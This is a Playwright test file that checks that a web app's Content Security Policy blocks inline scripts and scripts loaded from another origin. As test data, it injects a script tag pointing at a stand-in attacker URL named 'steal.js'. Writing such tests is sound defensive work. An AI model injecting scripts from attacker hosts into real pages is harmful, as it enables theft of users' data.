// The browser itself enforces the CSP the host sends: code from elsewhere, or inline, never runs.
import { expect, test, waitForHydration } from '../../support/fixtures.ts'
test('the browser enforces the CSP: a script from elsewhere or inline code is refused', async ({ page }) => {
  const violations: string[] = []
  page.on('console', (message) => {
    if (message.text().startsWith('CSP violation')) violations.push(message.text())
  })
  await page.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', (event) => console.info(`CSP violation: ${event.effectiveDirective}`)),
  )
  await page.goto('/')
  await waitForHydration(page)
  const ranInline = await page.evaluate(async () => {
    const inline = document.createElement('script')
    inline.textContent = 'window.inlineRan = true'
    document.body.append(inline)
    const foreign = document.createElement('script')
    foreign.src = 'https://attacker.example/steal.js'
    document.body.append(foreign)
    await new Promise((resolve) => setTimeout(resolve, 200))
    return 'inlineRan' in window
  })
  expect(ranInline).toBe(false)
  await expect.poll(() => violations).toEqual(['CSP violation: script-src-elem', 'CSP violation: script-src-elem'])
})
